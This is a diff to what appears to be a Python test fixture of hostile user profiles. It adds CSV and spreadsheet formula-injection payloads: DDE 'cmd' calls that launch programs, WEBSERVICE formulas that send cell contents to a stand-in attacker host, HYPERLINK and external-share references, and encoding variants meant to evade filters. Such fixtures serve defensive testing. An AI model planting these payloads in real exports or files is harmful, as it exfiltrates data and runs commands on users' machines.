@@ -28,6 +28,7 @@ _UNSTORED = "a\0b\x01\x0b\x1b\ud800c\udfff\uffff"
 _UNSEEN = "\u200b\u2060\ufeff\u3164"
 _LINK = {"url": f"javascript:{RAN}", "expanded_url": f"javascript:{RAN}"}
 _DATA = f"data:text/html,<script>{RAN}</script>"
+_CALL = f'=WEBSERVICE("https://{EVIL}/?"&A1)'
 _AWAY = f"https://seen.{EVIL}/profile_images/1/a_normal.png"
 
 
@@ -131,6 +132,21 @@ _PEOPLE: dict[str, tuple[dict, dict]] = {
     "mallory_formula": (
         {"name": "=cmd|' /C calc'!A0 Mallory", "location": "@SUM(1+1)*cmd|' /C'!A0"},
         {"description": f'=HYPERLINK("https://{EVIL}","Mallory")'},
+    ),
+    "mallory_array": (
+        {"name": "{=cmd|' /C calc'!A0+Mallory}"},
+        {
+            "location": f"external:\\\\{EVIL}\\share\\Mallory.xlsx",
+            "description": f'\t=HYPERLINK("https://{EVIL}","Mallory")',
+        },
+    ),
+    "mallory_group": (
+        {"name": f'=WEBSERVICE("https://{EVIL}/?"&B3)&Mallory'},
+        {"location": "mailto:Mallory@x", "description": f"\n {_CALL}"},
+    ),
+    "mallory_wide": (
+        {"name": f"\uff1d{_CALL[1:]} Mallory"},
+        {"location": "internal:Sheet1!A1", "description": f"  -1{_CALL}"},
     ),
 }
 NAMES = tuple(_PEOPLE)
